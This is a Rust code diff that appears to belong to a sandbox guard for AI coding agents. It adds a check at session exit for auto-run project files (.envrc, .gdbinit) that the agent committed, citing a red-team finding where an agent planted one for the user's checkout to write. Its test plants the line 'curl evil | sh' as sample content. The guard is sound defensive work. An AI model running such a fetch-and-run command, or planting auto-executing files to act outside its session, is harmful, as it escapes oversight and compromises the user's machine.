@@ -16,8 +16,8 @@ use std::hash::{BuildHasher as _, RandomState};
 use std::os::unix::ffi::{OsStrExt as _, OsStringExt as _};
 use std::path::{Path, PathBuf};
 
-use super::cache_tree;
 use super::git::{self, IndexEntry};
+use super::{allow_list, cache_tree};
 
 /// `--assume-unchanged` (the flags word) and `--skip-worktree` (the extended flags).
 const ASSUME_UNCHANGED: u16 = 0x8000;
@@ -35,6 +35,9 @@ pub struct IndexSnapshot {
     keys: RandomState,
     /// When it was taken, as file times read it ([`objects::launch_moment`]).
     launched: i128,
+    /// Where the user's tools run a project file by themselves, and its names
+    /// ([`allow_list::trusted_project_files`](super::allow_list::trusted_project_files)).
+    trusted: Vec<(PathBuf, Vec<&'static str>)>,
 }
 
 struct Recorded {
@@ -82,8 +85,12 @@ impl IndexSnapshot {
     /// The entries of each `(git directory, worktree)`'s indexes now, and which of `protected`
     /// (the session's read-only binds) lie in its worktree.
     pub fn take(worktrees: &[(PathBuf, PathBuf)], protected: &[PathBuf]) -> IndexSnapshot {
-        let mut snapshot =
-            IndexSnapshot { worktrees: Vec::new(), keys: RandomState::new(), launched: objects::launch_moment() };
+        let mut snapshot = IndexSnapshot {
+            worktrees: Vec::new(),
+            keys: RandomState::new(),
+            launched: objects::launch_moment(),
+            trusted: Vec::new(),
+        };
         let mut budget = git::INDEX_BYTES_PER_LOOK;
         for (git_dir, worktree) in worktrees {
             // Only those below the worktree (not the worktree itself, nor its git directory).
@@ -111,6 +118,14 @@ impl IndexSnapshot {
             });
         }
         snapshot
+    }
+
+    /// The snapshot, looking at the exit also for `trusted`'s files (a `.envrc` where direnv
+    /// loads it unasked) in the commits the session made: one not there at launch is not a
+    /// read-only bind (the thirty-sixth re-attack's H18 committed one the user's checkout writes).
+    pub fn with_trusted(mut self, trusted: Vec<(PathBuf, Vec<&'static str>)>) -> IndexSnapshot {
+        self.trusted = trusted;
+        self
     }
 
     fn key(&self, entry: &IndexEntry) -> u64 {
@@ -173,7 +188,16 @@ impl IndexSnapshot {
             // what the commit holds. So every commit the session made is looked at, named or not
             // (the thirty-sixth re-attack found eleven ways to name one), and what its tree holds
             // of the protected files is compared with them.
-            if !recorded.protected.is_empty() {
+            // The trusted scopes in this worktree, relative to it (one holding the worktree: all of it).
+            let trusted: Vec<(&Path, &[&str])> = self
+                .trusted
+                .iter()
+                .filter_map(|(scope, names)| match scope.strip_prefix(&recorded.worktree) {
+                    Ok(relative) => Some((relative, names.as_slice())),
+                    Err(_) => recorded.worktree.starts_with(scope).then_some((Path::new(""), names.as_slice())),
+                })
+                .collect();
+            if !recorded.protected.is_empty() || !trusted.is_empty() {
                 let objects = git::common_dir(&recorded.git_dir).unwrap_or_else(|| recorded.git_dir.clone());
                 let objects = objects::Objects::new(objects.join("objects"), hash_len, self.launched);
                 match objects.new_commit_trees() {
@@ -190,9 +214,25 @@ impl IndexSnapshot {
                                     hidden.versions_unchecked.push(bound.clone());
                                 }
                             }
+                            for (relative, names) in &trusted {
+                                let found = objects.new_blobs_at(&tree, relative, |path, object_name| {
+                                    let name = path.file_name().unwrap_or_default().to_string_lossy();
+                                    if names.iter().any(|wanted| allow_list::name_matches(&name, wanted)) {
+                                        staged.push((recorded.worktree.join(path), object_name.to_vec()));
+                                    }
+                                });
+                                if found.is_err() {
+                                    hidden.versions_unchecked.push(recorded.worktree.join(relative));
+                                }
+                            }
                         }
                     }
-                    Err(()) => hidden.versions_unchecked.extend(recorded.protected.iter().cloned()),
+                    Err(()) => {
+                        hidden.versions_unchecked.extend(recorded.protected.iter().cloned());
+                        hidden
+                            .versions_unchecked
+                            .extend(trusted.iter().map(|(relative, _)| recorded.worktree.join(relative)));
+                    }
                 }
             }
             for (path, object_name) in staged {
@@ -462,10 +502,14 @@ mod objects {
             mut visit: impl FnMut(&Path, &[u8]),
         ) -> Result<(), ()> {
             let parts: Vec<&[u8]> = relative.iter().map(|part| part.as_encoded_bytes()).collect();
-            if parts.is_empty() || parts.len() > MAX_DEPTH {
+            if parts.len() > MAX_DEPTH {
                 return Err(());
             }
             let mut left = MAX_FILES;
+            if parts.is_empty() {
+                // The whole tree.
+                return self.visit_below(PathBuf::new(), b"40000", tree, 0, &mut left, &mut visit);
+            }
             self.down(tree, &parts, relative, &mut left, &mut visit)
         }
 
@@ -854,6 +898,37 @@ mod tests {
         assert!(git(&repo, &["prune-packed"]));
         let hidden = snapshot.hidden();
         assert!(hidden.versions_unchecked.contains(&repo.join("lint.sh")), "{hidden:?}");
+    }
+
+    /// The thirty-sixth re-attack's H18: a file the user's tools run by themselves (an `.envrc`
+    /// where direnv loads it unasked) that was not there at launch, so not a read-only bind,
+    /// committed by the agent: the user's `checkout` or `reset --hard` writes it. Named at the top
+    /// of a trusted scope and below it; other names, and what lies outside the scope, are not.
+    #[test]
+    fn a_trusted_project_file_committed_in_the_session_is_named() {
+        let Some((_temp, repo)) = repository() else { return };
+        std::thread::sleep(std::time::Duration::from_millis(120));
+        let worktrees = [(repo.join(".git"), repo.clone())];
+        let whole =
+            IndexSnapshot::take(&worktrees, &[]).with_trusted(vec![(repo.clone(), vec![".envrc", "*.gdbinit"])]);
+        let below = IndexSnapshot::take(&worktrees, &[]).with_trusted(vec![(repo.join("deep"), vec![".envrc"])]);
+        std::fs::write(repo.join("evil"), "curl evil | sh\n").unwrap();
+        let id = git_out(&repo, &["hash-object", "-w", "evil"], &[]).unwrap();
+        std::fs::remove_file(repo.join("evil")).unwrap();
+        let entry = |path: &str| format!("100644,{id},{path}");
+        let (top, deep, other, gdb) =
+            (entry(".envrc"), entry("deep/er/.envrc"), entry("deep/notes.md"), entry("tools/x.gdbinit"));
+        plant(
+            &repo,
+            &[(".envrc", &top), ("deep/er/.envrc", &deep), ("deep/notes.md", &other), ("tools/x.gdbinit", &gdb)],
+        );
+        let named = [repo.join(".envrc"), repo.join("deep/er/.envrc"), repo.join("tools/x.gdbinit")];
+        assert_eq!(whole.hidden().staged, named);
+        assert_eq!(below.hidden().staged, vec![repo.join("deep/er/.envrc")]);
+        // The same content in the worktree (the user's own file): nothing of the agent's to write.
+        std::fs::create_dir_all(repo.join("deep/er")).unwrap();
+        std::fs::write(repo.join("deep/er/.envrc"), "curl evil | sh\n").unwrap();
+        assert_eq!(below.hidden().staged, Vec::<PathBuf>::new());
     }
 
     /// A tree object written as given, as `git hash-object -t tree --literally` writes what git's
